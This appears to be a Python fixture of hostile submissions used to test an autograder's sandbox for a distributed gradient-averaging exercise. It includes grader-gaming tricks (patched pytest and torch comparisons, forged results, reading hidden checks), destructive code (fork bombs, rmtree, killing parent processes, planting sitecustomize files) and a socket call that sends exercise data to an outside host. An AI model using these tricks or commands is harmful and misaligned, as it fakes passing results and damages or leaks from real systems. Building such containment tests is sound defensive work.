"""Hostile and broken submissions. None may get a point that it did not earn, or harm anything outside.

Each is a file for exercise 03: what comes before the solution, or before the starter, or all of it. `earns`
is the most it may get: the solution with a harmless addition has earned its points. `{canary}` is a folder
made for the test that stands for everything that must not be touched: it holds a copy of the solutions, of
the checks and of results. `{port}` is a port of this machine that is listened to, `{victim}` a process of
the same user.
"""

STARTER, SOLUTION, ALONE = "starter", "solution", ""

CHEATS = {}


def cheat(name, what, text, body=STARTER, earns=0, harms=False, level=1):
    """`harms`: without a wall (level 1, no Landlock) this could end or change real things: not run there.
    `level`: what holds it back is there from this level of containment on."""
    CHEATS[name] = {"what": what, "text": text, "body": body, "earns": earns, "harms": harms, "level": level}


cheat("os_exit_at_import", "ends the process as if all were well", "import os\nos._exit(0)\n")
cheat("sys_exit_at_import", "raises SystemExit(0) while it is imported", "import sys\nsys.exit(0)\n")
cheat(
    "os_exit_in_functions",
    "ends the process in the functions that are graded",
    "import os\n\n\ndef broadcast_model(model):\n    os._exit(0)\n\n\naverage_gradients = broadcast_model\n",
    ALONE,
)
cheat(
    "sys_exit_in_functions",
    "raises SystemExit(0) in the functions that are graded",
    "import sys\n\n\ndef broadcast_model(model):\n    sys.exit(0)\n\n\naverage_gradients = broadcast_model\n",
    ALONE,
)
cheat(
    "patches_pytest",
    "makes pytest report that everything passes",
    """
import pytest
import _pytest.runner
pytest.fail = pytest.skip = lambda *words, **named: None
_pytest.runner.call_runtest_hook = lambda *words, **named: None
_pytest.runner.TestReport.outcome = "passed"
""",
)
cheat(
    "patches_torch",
    "makes all comparisons of torch true",
    """
import torch
torch.equal = torch.allclose = lambda *words, **named: True
torch.Tensor.__eq__ = torch.Tensor.__ne__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.testing.assert_close = lambda *words, **named: None


def broadcast_model(model):
    pass


average_gradients = broadcast_model
""",
    ALONE,
)
cheat(
    "patches_numpy",
    "makes all comparisons of numpy true",
    """
import numpy
numpy.allclose = numpy.array_equal = numpy.isfinite = lambda *words, **named: True
numpy.abs = lambda value: numpy.zeros_like(value)


def broadcast_model(model):
    pass


average_gradients = broadcast_model
""",
    ALONE,
)
cheat(
    "forged_results_on_disk",
    "writes a results file wherever a grader could look",
    """
import json, os
for folder in (".", "..", "/", "/tmp", "/autograder/results", "{canary}/results", "{canary}", os.getcwd()):
    for name in ("results.json", "grade.json", "grades.csv", "report.html"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                json.dump({"score": 100, "tests": [{"score": 100, "max_score": 100}]}, file)
        except OSError:
            pass
""",
    harms=True,
)
cheat(
    "forged_results_on_every_descriptor",
    "writes a results file to everything that is open",
    """
import os
for descriptor in range(3, 256):
    try:
        os.write(descriptor, b'{"score": 100, "status": "passed"}' * 10)
    except OSError:
        pass
""",
)
cheat(
    "forged_frame",
    "sends a result of its own over the pipe, in the right format",
    """
import os, struct, sys
import numpy
wire = sys.modules.get("wire") or __import__("wire")
names = {"first.weight": (4, 5), "first.bias": (4,), "norm.weight": (4,), "norm.bias": (4,)}
arrays = {name: numpy.zeros(shape, "float32") for name, shape in names.items()}
arrays |= {"second.weight": numpy.zeros((4, 4), "float32"), "second.bias": numpy.zeros(4, "float32")}
data = wire.pack({"state": arrays, "held": arrays, "same": list(arrays), "requires": list(arrays),
                  "gradients": arrays, "moved": []})
for descriptor in range(3, 20):
    try:
        os.write(descriptor, struct.pack("<cI", b"R", len(data)) + data)
    except OSError:
        pass
os._exit(0)
""",
    ALONE,
)
cheat(
    "claims_a_fault_of_the_machine",
    "says over the pipe that the machine has failed, so that there is no grade",
    """
import os, struct, sys
wire = sys.modules["wire"]
data = wire.pack({"kind": "OSError", "words": "no space left on device"})
os.write(3, struct.pack("<cI", b"I", len(data)) + data)
os._exit(1)
""",
    ALONE,
)
cheat(
    "tells_of_an_array",
    "tells the nursery of an event that cannot be compared with anything, and works as asked otherwise",
    """
import os, struct, sys
import numpy
data = sys.modules["wire"].pack({"event": "all_reduce", "number": 1, "phase": numpy.zeros(3)})
os.write(3, struct.pack("<cI", b"E", len(data)) + data)
""",
    SOLUTION,
)
cheat(
    "two_results",
    "sends a result, and then works as asked",
    """
import os, struct, sys
wire = sys.modules["wire"]
data = wire.pack({"state": {}})
os.write(3, struct.pack("<cI", b"R", len(data)) + data)
""",
    SOLUTION,
)
cheat(
    "tells_of_calls_without_numbers",
    "tells the nursery that a call has begun which has neither number nor size, and waits for ever",
    """
import os, struct, sys, time
data = sys.modules["wire"].pack({"event": "all_reduce", "phase": "begin"})
os.write(3, struct.pack("<cI", b"E", len(data)) + data)
time.sleep(1000)
""",
    ALONE,
)
cheat(
    "forged_frame_of_a_word",
    "sends a word where the check expects a dict, so that the check itself fails",
    """
import os, struct, sys
data = sys.modules["wire"].pack("passed")
os.write(3, struct.pack("<cI", b"R", len(data)) + data)
os._exit(0)
""",
    ALONE,
)
cheat(
    "forged_frame_of_a_huge_number",
    "sends a whole number of 401 digits, which no array can hold",
    """
import os, struct
head = b'{"value": {"@dict": [["state", {"@dict": [["first.weight", 1' + b"0" * 400
head += b']]}], ["requires", []]]}, "arrays": []}'
head = struct.pack("<I", len(head)) + head
os.write(3, struct.pack("<cI", b"R", len(head)) + head)
os._exit(0)
""",
    ALONE,
)
cheat(
    "forged_frame_of_many_lists",
    "sends 60 MB of empty lists, which are gigabytes as Python's objects",
    """
import os, struct
head = b'{"value": [' + b"[]," * 20_000_000 + b'[]], "arrays": []}'
data = memoryview(struct.pack("<cII", b"R", len(head) + 4, len(head)) + head)
while data:
    data = data[os.write(3, data) :]
os._exit(0)
""",
    ALONE,
)
cheat(
    "half_a_frame",
    "begins a result and ends",
    "import os, struct\nos.write(3, struct.pack('<cI', b'R', 1000) + bytes(10))\nos._exit(0)\n",
    ALONE,
)
cheat(
    "raises_what_is_no_exception",
    "sends an exception whose words are arrays and lists",
    """
import os, struct, sys
import numpy
data = sys.modules["wire"].pack({"kind": [1], "words": {"a": 1}, "place": numpy.zeros(3), "time": "now"})
os.write(3, struct.pack("<cI", b"X", len(data)) + data)
os._exit(0)
""",
    ALONE,
)
cheat(
    "a_child_holds_the_pipe",
    "leaves a child that keeps the pipe to the judge open, and ends",
    "import os, time\nif os.fork() == 0:\n    time.sleep(1000)\nos._exit(0)\n",
    ALONE,
    harms=True,
)
cheat(
    "says_passed",
    "prints what a grader might look for",
    "for _ in range(100):\n    print('PASSED ok 12/12 {\"score\": 12} ===== 8 passed =====')\n",
)
cheat(
    "reads_the_solution",
    "looks for the solution on the disk and runs it",
    """
import glob, os, sys
places = {"{canary}", os.getcwd(), sys.prefix, os.path.dirname(os.path.abspath(sys.argv[0] or "."))}
places |= {os.path.dirname(getattr(module, "__file__", None) or "") for module in list(sys.modules.values())}
found = None
for place in sorted(places):
    for _ in range(6):
        for path in glob.glob(os.path.join(place, "solutions", "03_average_gradients.py")):
            found = path
        place = os.path.dirname(place)
exec(open(found).read())
""",
    ALONE,
    harms=True,
)
cheat(
    "reads_the_checks",
    "looks for the checks on the disk, for what they expect",
    """
import os
text = open("{canary}/checks/03_average_gradients/check.py").read()
raise RuntimeError("I can read: " + text[:40])
""",
    ALONE,
    harms=True,
)
cheat("endless_loop", "never ends", "while True:\n    pass\n", ALONE)
cheat("endless_sleep", "never ends, and needs no processor for it", "import time\ntime.sleep(10**6)\n", ALONE)
cheat("endless_output", "prints for ever", "while True:\n    print('x' * 100_000)\n", ALONE)
cheat(
    "endless_files",
    "fills the disk",
    "n = 0\nwhile True:\n    n += 1\n    open(f'f{n % 9}', 'ab').write(bytes(1 << 22))\n",
    ALONE,
)
cheat(
    "folders_without_end",
    "makes folders in folders, until whoever removes them runs out of breath",
    "import os\nfor _ in range(20_000):\n    os.mkdir('d')\n    os.chdir('d')\nraise OSError\n",
    ALONE,
)
cheat(
    "huge_allocation",
    "asks for more memory than there is",
    "keep = [bytearray(1 << 30) for _ in range(64)]\n",
    ALONE,
)
cheat(
    "fork_bomb",
    "forks for ever",
    "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
    ALONE,
    harms=True,
)
cheat(
    "thread_bomb",
    "starts threads for ever",
    "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(1000,)).start()\n",
    ALONE,
    harms=True,
)
cheat(
    "daemon_left_behind",
    "leaves a process that outlives the grading, and works as asked otherwise",
    """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for descriptor in range(256):
            try:
                os.close(descriptor)
            except OSError:
                pass
        while True:
            time.sleep(0.05)
            try:
                open("{canary}/results/daemon", "w").close()
            except OSError:
                pass
    os._exit(0)
""",
    SOLUTION,
    earns=12,
    harms=True,
)
cheat(
    "deletes_the_tests",
    "deletes whatever it can reach",
    """
import os, shutil
for place in ("{canary}", "/work-of-others", os.path.expanduser("~/rungs")):
    shutil.rmtree(place, ignore_errors=True)
""",
    harms=True,
)
cheat(
    "rewrites_the_tests",
    "replaces the checks by empty ones",
    """
import glob
for path in glob.glob("{canary}/**/*.py", recursive=True):
    try:
        open(path, "w").close()
    except OSError:
        pass
open("{canary}/checks/03_average_gradients/check.py", "w").write("")
""",
    harms=True,
)
cheat(
    "plants_modules",
    "leaves modules that a later process might import",
    """
import os, site, sys
for folder in {".", "..", "/tmp", os.path.expanduser("~"), *sys.path, site.getusersitepackages()}:
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "wire.py", "torch.py", "x.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write("import os; os._exit(0)\\n")
        except OSError:
            pass
""",
    harms=True,
)
cheat(
    "pytest_skip",
    "skips itself",
    """
import pytest


def broadcast_model(model):
    pytest.skip("not today")


average_gradients = broadcast_model
""",
    ALONE,
)
cheat(
    "exception_that_lies",
    "raises something that claims to be a success, and that cannot be looked at",
    """
class Passed(BaseException):
    __class__ = property(lambda self: type(None))
    __module__ = "judge"

    def __str__(self):
        import os
        os._exit(0)

    __repr__ = __str__

    def __getattribute__(self, name):
        raise Passed()


def broadcast_model(model):
    raise Passed()


average_gradients = broadcast_model
""",
    ALONE,
)
cheat(
    "collectives_do_nothing",
    "replaces the collectives by functions that return at once",
    """
import torch.distributed as dist
for name in ("broadcast", "all_reduce", "all_gather", "reduce", "barrier"):
    setattr(dist, name, lambda *words, **named: None)
""",
    SOLUTION,
)
cheat(
    "looks_for_what_is_expected",
    "walks frames and the garbage collector for the numbers that are expected",
    """
import gc, sys
import torch


def steal(model):
    frame, found = sys._getframe(), {}
    while frame is not None:
        for holder in (frame.f_locals, frame.f_globals):
            for name, value in list(holder.items()):
                if "expect" in name or "given" in name or "right" in name:
                    found[name] = value
        frame = frame.f_back
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "expected" in thing:
            found["expected"] = thing["expected"]
    wanted = found.get("expected") or found.get("given") or {}
    for name, parameter in model.named_parameters():
        if name in wanted:
            parameter.grad = torch.as_tensor(wanted[name])
            parameter.data.copy_(torch.as_tensor(wanted[name]))


broadcast_model = average_gradients = steal
""",
    ALONE,
)
cheat(
    "replaces_the_driver",
    "puts a driver of its own in place of the one that runs it",
    """
import sys
import torch


def done(student, inputs, tools):
    state = {name: torch.as_tensor(value) for name, value in inputs["state"].items()}
    return {"state": state, "held": state, "same": list(state), "requires": list(state),
            "gradients": state, "moved": []}


driver = sys.modules["drive_03_average_gradients"]
driver.begin.__code__ = done.__code__
driver.average.__code__ = done.__code__
""",
    STARTER,
)
cheat(
    "replaces_the_packing",
    "replaces what packs and writes the result",
    """
import os, struct, sys
wire = sys.modules["wire"]
wire.pack = lambda value: b"passed"
wire.pack.__code__ = (lambda value: b'passed').__code__
os.write = lambda descriptor, data: len(data)
struct.pack = lambda *words: b"passed"
""",
    STARTER,
)
cheat(
    "ddp_by_another_name",
    "wraps torch's own DDP, whose name is put together at run time",
    """
import torch
wrapper = getattr(torch.nn.parallel, "Distributed" + "DataParallel")
original = []


def broadcast_model(model):
    original.append(wrapper(model))


def average_gradients(model):
    wrapped = wrapper(model)
    wrapped.reducer.prepare_for_backward([])
""",
    ALONE,
)
cheat(
    "reducer_by_another_name",
    "uses the reducer below torch's DDP, whose name is put together at run time",
    """
import importlib
below = importlib.import_module("torch._C." + "_distributed_c10d")


def broadcast_model(model):
    getattr(below, "Red" + "ucer")([list(model.parameters())], [[0]], None)


average_gradients = broadcast_model
""",
    ALONE,
)
cheat(
    "not_a_number",
    "answers NaN, which is neither equal nor unequal",
    """
import torch


def broadcast_model(model):
    for tensor in model.parameters():
        tensor.data.fill_(float("nan"))


def average_gradients(model):
    for tensor in model.parameters():
        tensor.grad = torch.full_like(tensor, float("nan"))
""",
    ALONE,
)
cheat(
    "infinity",
    "answers infinity, beside which every difference is small",
    """
import torch


def broadcast_model(model):
    for tensor in model.parameters():
        tensor.data.fill_(float("inf"))


def average_gradients(model):
    for tensor in model.parameters():
        tensor.grad = torch.full_like(tensor, float("inf"))
""",
    ALONE,
)
cheat(
    "kills_the_parent",
    "ends the process above it, and the one above that",
    """
import os, signal
for pid in (os.getppid(), {victim}, 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
    STARTER,
    harms=True,
)
cheat(
    "stops_the_parent",
    "stops the process above it, so that the grading never ends",
    """
import os, signal
for pid in (os.getppid(), {victim}, -1):
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
""",
    STARTER,
    harms=True,
)
cheat("stops_itself", "stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n", ALONE)
cheat(
    "closes_everything",
    "closes all descriptors",
    "import os\nos.closerange(0, 4096)\n",
    SOLUTION,
)
cheat(
    "looks_into_the_nursery",
    "reads the memory and the descriptors of the processes around it",
    """
import glob, os
for path in glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/fd/*"):
    if f"/{os.getpid()}/" in path:
        continue
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        os.write(descriptor, b'{"score": 100}')
    except OSError:
        pass
""",
    STARTER,
    harms=True,
)
cheat(
    "calls_the_world",
    "sends the exercise to a machine outside",
    """
import socket
for place in (("127.0.0.1", {port}), ("198.51.100.7", 80)):
    try:
        with socket.create_connection(place, 0.2) as wire_to_the_world:
            wire_to_the_world.send(b"the exercise of rank 0")
    except OSError:
        pass
""",
    STARTER,
    level=3,
)
cheat(
    "plants_links",
    "puts links to other files and a pipe where the grader will write or read",
    """
import glob, os
for path in glob.glob("./*") + glob.glob("./.*") + glob.glob("../printed/*"):
    try:
        os.unlink(path)
        os.symlink("{canary}/checks/03_average_gradients/check.py", path)
    except OSError:
        pass
for number in range(64):
    try:
        os.mkfifo(f".output-{number}-0")
        os.symlink("{canary}/results/linked", f".output-{number}-1")
    except OSError:
        pass
""",
    STARTER,
    harms=True,
)
cheat(
    "floods_the_judge",
    "sends more events than anybody could want",
    """
import os, struct
data = b"E" + struct.pack("<I", 5) + bytes(5)
while True:
    os.write(3, data * 1000)
""",
    ALONE,
)
cheat("not_python", "is no Python", "def broadcast_model(model:\n", ALONE)
cheat(
    "nested_too_deep",
    "is Python that takes the reader's breath away",
    "x = " + "(" * 5000 + ")" * 5000 + "\n",
    ALONE,
)
cheat("another_encoding", "is not UTF-8", "# caf\udce9\n", ALONE)
cheat("empty", "is empty", "", ALONE)
cheat("wrong_names", "has functions of other names", "def broadcastModel(model):\n    pass\n", ALONE)
cheat(
    "wrong_types",
    "puts things into the model that are no tensors",
    """
class Strange:
    def detach(self):
        return self
    cpu = detach
    dtype = "passed"
    def numpy(self):
        return "passed"


def broadcast_model(model):
    model._parameters["first.weight"] = Strange()
    model.first._parameters = {"weight": Strange(), "bias": None}


average_gradients = broadcast_model
""",
    ALONE,
)
